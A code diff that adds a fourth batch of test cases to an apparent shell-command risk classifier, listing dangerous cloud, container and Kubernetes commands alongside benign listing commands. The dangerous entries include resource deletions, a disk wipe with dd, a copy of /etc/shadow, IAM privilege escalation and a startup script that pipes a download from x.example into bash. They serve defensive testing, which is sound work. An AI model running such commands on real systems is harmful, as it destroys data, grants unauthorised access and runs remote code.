@@ -671,11 +671,124 @@ THIRD_BENIGN = [
 ]
 
 
-@pytest.mark.parametrize(("command", "least"), DANGEROUS + SECOND_DANGEROUS + THIRD_DANGEROUS)
+# Fourth batch: other clouds and virtualisation tools, Windows and macOS network and disk
+# commands, other firewall front ends, and their listings.
+FOURTH_DANGEROUS = [
+    ("openstack server delete --wait web-1", HIGH),
+    ("openstack volume delete --force data-vol", HIGH),
+    ("openstack project delete prod", CRITICAL),
+    ("oci os bucket delete --bucket-name backups --force --empty", CRITICAL),
+    ("oci compute instance terminate --instance-id ocid1.instance.x --force", HIGH),
+    ("ibmcloud resource service-instance-delete db-prod -f --recursive", HIGH),
+    ("scw instance server delete srv-1 with-volumes=all", HIGH),
+    ("linode-cli linodes delete 12345", HIGH),
+    ("gcloud alpha storage rm -r gs://prod-data", CRITICAL),
+    ("gcloud beta container clusters delete prod --quiet", CRITICAL),
+    ("az storage blob delete-batch -s '$web' --account-name site --pattern '*'", HIGH),
+    ("az webapp delete -g rg -n prod-app", HIGH),
+    ("az aks nodepool delete -g rg --cluster-name prod -n pool1 --yes", HIGH),
+    (
+        "aws autoscaling delete-auto-scaling-group --auto-scaling-group-name web --force-delete",
+        HIGH,
+    ),
+    ("aws lambda delete-function --function-name api", HIGH),
+    ("aws sns delete-topic --topic-arn arn:aws:sns:us-east-1:1:alerts", HIGH),
+    ("aws elbv2 delete-load-balancer --load-balancer-arn arn:x", HIGH),
+    (
+        "aws ec2 revoke-security-group-ingress --group-id sg-1 --protocol tcp --port "
+        "22 --cidr 10.0.0.0/8",
+        MODERATE,
+    ),
+    (
+        "aws iam create-login-profile --user-name bob --password 'P@ss' "
+        "--no-password-reset-required",
+        HIGH,
+    ),
+    (
+        "aws iam attach-role-policy --role-name ci --policy-arn "
+        "arn:aws:iam::aws:policy/AdministratorAccess",
+        HIGH,
+    ),
+    (
+        "gcloud iam roles update custom --project p --add-permissions "
+        "resourcemanager.projects.setIamPolicy",
+        HIGH,
+    ),
+    (
+        "gcloud compute instances add-metadata vm --metadata startup-script='curl "
+        "http://x.example/a | bash'",
+        HIGH,
+    ),
+    ("gcloud compute ssh vm --command 'sudo rm -rf /var/lib/postgresql'", HIGH),
+    (
+        "aws ec2-instance-connect ssh --instance-id i-1 --command 'sudo dd "
+        "if=/dev/zero of=/dev/xvda'",
+        CRITICAL,
+    ),
+    ("buildah rm --all", HIGH),
+    ("podman rmi --all --force", HIGH),
+    ("skopeo delete docker://registry.example.com/app:prod", HIGH),
+    ("k3d cluster delete --all", HIGH),
+    ("vagrant destroy -f", HIGH),
+    ("virsh undefine prod-vm --remove-all-storage", HIGH),
+    ("virsh destroy prod-vm", HIGH),
+    ("multipass delete --all --purge", HIGH),
+    ("docker swarm init --advertise-addr 0.0.0.0 --listen-addr 0.0.0.0:2377", MODERATE),
+    ("docker service rm $(docker service ls -q)", HIGH),
+    ("docker node rm --force worker-2", HIGH),
+    ("docker network prune -f && docker volume prune -af", HIGH),
+    (
+        "sudo systemctl stop docker.socket docker.service && sudo rm -rf /var/lib/docker/volumes",
+        HIGH,
+    ),
+    ("kubectl cp /etc/shadow default/web-0:/tmp/shadow", HIGH),
+    ("kubectl exec -i web-0 -- sh -c 'cat > /app/index.html' < defaced.html", MODERATE),
+    (
+        "kubectl annotate ns prod pod-security.kubernetes.io/enforce=privileged --overwrite",
+        MODERATE,
+    ),
+    ("kubectl replace --force -f prod-db.yaml", HIGH),
+    ("kubectl rollout undo deploy/api -n prod --to-revision=1", MODERATE),
+    ("helm rollback prod-db 1 --force", MODERATE),
+]
+
+FOURTH_BENIGN = [
+    ("openstack server list", SAFE),
+    ("openstack volume show data-vol", SAFE),
+    ("oci os object list --bucket-name backups", SAFE),
+    ("ibmcloud resource service-instances", SAFE),
+    ("scw instance server list", SAFE),
+    ("linode-cli linodes list", SAFE),
+    ("gcloud alpha storage ls gs://prod-data", SAFE),
+    ("az webapp list -o table", SAFE),
+    ("aws lambda list-functions", SAFE),
+    ("aws autoscaling describe-auto-scaling-groups", SAFE),
+    ("gcloud compute ssh vm --command 'df -h'", MODERATE),
+    ("buildah images", SAFE),
+    ("podman images --all", SAFE),
+    ("skopeo inspect docker://registry.example.com/app:prod", SAFE),
+    ("k3d cluster list", SAFE),
+    ("vagrant status", SAFE),
+    ("virsh list --all", SAFE),
+    ("virsh dominfo prod-vm", SAFE),
+    ("multipass list", SAFE),
+    ("docker service ls", SAFE),
+    ("docker node ls", SAFE),
+    ("kubectl cp default/web-0:/var/log/app.log ./app.log", MODERATE),
+    ("kubectl rollout status deploy/api -n prod", SAFE),
+    ("helm history prod-db", SAFE),
+]
+
+
+@pytest.mark.parametrize(
+    ("command", "least"), DANGEROUS + SECOND_DANGEROUS + THIRD_DANGEROUS + FOURTH_DANGEROUS
+)
 def test_dangerous(command: str, least: RiskLevel) -> None:
     reaches(command, least)
 
 
-@pytest.mark.parametrize(("command", "highest"), BENIGN + SECOND_BENIGN + THIRD_BENIGN)
+@pytest.mark.parametrize(
+    ("command", "highest"), BENIGN + SECOND_BENIGN + THIRD_BENIGN + FOURTH_BENIGN
+)
 def test_benign(command: str, highest: RiskLevel) -> None:
     stays_within(command, highest)
